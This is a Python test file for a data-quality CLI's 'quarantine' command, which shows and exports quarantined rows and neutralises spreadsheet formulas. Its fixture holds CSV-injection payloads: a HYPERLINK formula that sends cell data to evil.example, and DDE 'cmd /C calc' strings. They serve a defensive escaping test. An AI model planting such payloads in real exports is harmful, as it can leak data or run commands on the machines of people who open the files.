"""`assay quarantine`: every quarantined row within reach, by rule, on screen or exported (issue 18, item 6)."""

from __future__ import annotations

import csv
import io
from pathlib import Path

import polars as pl
import pytest
from typer.testing import CliRunner

from assay.cli import app
from assay.data.quarantine import export_command, neutralise_formulas, select_rows
from assay.errors import AssayError

from .conftest import REPO_ROOT

runner = CliRunner()
HYPERLINK = '=HYPERLINK("http://evil.example/?leak="&A1, "click")'


def quarantine_frame() -> pl.DataFrame:
    rows = [
        ("online_retail.csv", 12, "range:Quantity", "Quantity=-5 is below the minimum 1", "536365", HYPERLINK, "-5", None),
        ("online_retail.csv", 14, "stock_adjustment", "a negative quantity ...", "536366", "+cmd|' /C calc'!A0", "-2", None),
        ("online_retail.csv", 20, "range:Quantity", "Quantity=-1 is below the minimum 1", "536367", "@SUM(1+1)*cmd|' /C calc'!A0", "-1", None),
        ("online_retail.csv", 33, "range:Quantity", "Quantity=0 is below the minimum 1", "536368", "\tTAB", "0", None),
        ("online_retail.csv", 40, "ingest", "line has 9 fields, the header has 8", None, None, None, "536369,\rCR,1,<CustomerID>"),
        ("online_retail.csv", 41, "range:Quantity", "Quantity=-3 is below the minimum 1", "536370", "WHITE MUG", "-3", None),
    ]
    schema = ["_source_file", "_source_row", "_rule", "_reason", "InvoiceNo", "Description", "Quantity", "_raw"]
    frame = pl.DataFrame(rows, schema=schema, orient="row")
    # The quarantine's own column order: data columns first, provenance and rule after.
    return frame.select("InvoiceNo", "Description", "Quantity", "_source_file", "_source_row", "_raw", "_rule", "_reason")


@pytest.fixture
def quarantine_file(tmp_path: Path) -> Path:
    path = tmp_path / "transactions.parquet"
    quarantine_frame().write_parquet(path)
    return path


def test_rows_by_rule_in_file_order_with_provenance_first() -> None:
    rows = select_rows(quarantine_frame(), "range:Quantity")
    assert rows["_source_row"].to_list() == [12, 20, 33, 41]
    assert rows.columns[:4] == ["_source_file", "_source_row", "_rule", "_reason"] and rows.columns[-1] == "_raw"
    assert select_rows(quarantine_frame(), "range:Quantity", limit=2)["_source_row"].to_list() == [12, 20]
    assert select_rows(quarantine_frame()).height == 6


def test_an_unknown_rule_names_the_rules_there_are() -> None:
    with pytest.raises(AssayError) as error:
        select_rows(quarantine_frame(), "range:Quantiy")
    assert str(error.value) == (
        "no row was quarantined by rule 'range:Quantiy'; rules in this quarantine: ingest (1), range:Quantity (4), stock_adjustment (1)"
    )


def test_csv_cells_that_a_spreadsheet_would_run_are_neutralised() -> None:
    """OWASP CSV injection: a leading =, +, -, @, tab or carriage return gets a single quote."""
    safe = neutralise_formulas(quarantine_frame())
    assert safe["Description"].to_list() == ["'" + HYPERLINK, "'+cmd|' /C calc'!A0", "'@SUM(1+1)*cmd|' /C calc'!A0", "'\tTAB", None, "WHITE MUG"]
    assert safe["Quantity"].to_list() == ["'-5", "'-2", "'-1", "0", None, "'-3"]
    assert safe["_raw"].to_list()[4] == "536369,\rCR,1,<CustomerID>"  # a carriage return inside a cell is harmless
    assert safe["_source_row"].to_list() == quarantine_frame()["_source_row"].to_list()  # numbers stay numbers


def test_cli_exports_every_row_of_a_rule_to_csv_without_a_live_formula(tmp_path: Path, quarantine_file: Path) -> None:
    out = tmp_path / "export" / "quantity.csv"
    args = ["quarantine", "--domain", "transactions", "--params", str(REPO_ROOT / "params.yaml"), "--quarantine", str(quarantine_file)]
    result = runner.invoke(app, [*args, "--rule", "range:Quantity", "--out", str(out)])
    assert result.exit_code == 0, result.output
    assert "4 of 4 row(s) of rule range:Quantity written to" in result.output
    cells = list(csv.reader(io.StringIO(out.read_text(encoding="utf-8"))))
    assert cells[0][:4] == ["_source_file", "_source_row", "_rule", "_reason"] and len(cells) == 5
    assert cells[1][cells[0].index("Description")] == "'" + HYPERLINK  # shown as text, never run
    assert not any(cell.startswith(("=", "+", "-", "@", "\t", "\r")) for row in cells for cell in row)
    # Parquet keeps the values as they are; --limit cuts.
    parquet = tmp_path / "quantity.parquet"
    assert runner.invoke(app, [*args, "--rule", "range:Quantity", "--limit", "3", "--out", str(parquet)]).exit_code == 0
    assert pl.read_parquet(parquet)["Description"].to_list()[0] == HYPERLINK and pl.read_parquet(parquet).height == 3


def test_cli_lists_rows_on_screen_and_says_how_many_there_are(quarantine_file: Path) -> None:
    args = ["quarantine", "--domain", "transactions", "--params", str(REPO_ROOT / "params.yaml"), "--quarantine", str(quarantine_file)]
    result = runner.invoke(app, [*args, "--limit", "2"])
    assert result.exit_code == 0
    assert result.stdout.splitlines()[0].startswith("_source_file,_source_row,_rule,_reason")
    assert len(result.stdout.splitlines()) == 3 and "'=HYPERLINK" in result.stdout
    assert "2 of 6 row(s) shown; --out FILE.csv exports them all" in result.stderr


@pytest.mark.parametrize(
    ("extra", "message"),
    [
        (["--rule", "nope"], "error: no row was quarantined by rule 'nope'; rules in this quarantine: ingest (1), range:Quantity (4)"),
        (["--out", "rows.xlsx"], "error: rows.xlsx: unknown export format '.xlsx'; use a .csv or .parquet file"),
    ],
)
def test_cli_errors_are_one_line(quarantine_file: Path, extra: list[str], message: str) -> None:
    args = ["quarantine", "--domain", "transactions", "--params", str(REPO_ROOT / "params.yaml"), "--quarantine", str(quarantine_file)]
    result = runner.invoke(app, [*args, *extra])
    assert result.exit_code == 2 and result.output.startswith(message), result.output
    missing = runner.invoke(app, ["quarantine", "--domain", "transactions", "--params", str(REPO_ROOT / "params.yaml"), "--quarantine", "/nope.parquet"])
    assert missing.exit_code == 2 and "quarantine not found; run `assay clean --domain transactions`" in missing.output


def test_export_command_is_the_exact_command_for_a_rule() -> None:
    command = "assay quarantine --domain transactions --rule range:Quantity --out transactions-range_Quantity.csv"
    assert export_command("transactions", "range:Quantity") == command
    command = "assay quarantine --domain records --rule 'duplicate_key:a, b' --out records-duplicate_key_a__b.csv"
    assert export_command("records", "duplicate_key:a, b") == command
    assert export_command("records") == "assay quarantine --domain records --out records-all.csv"
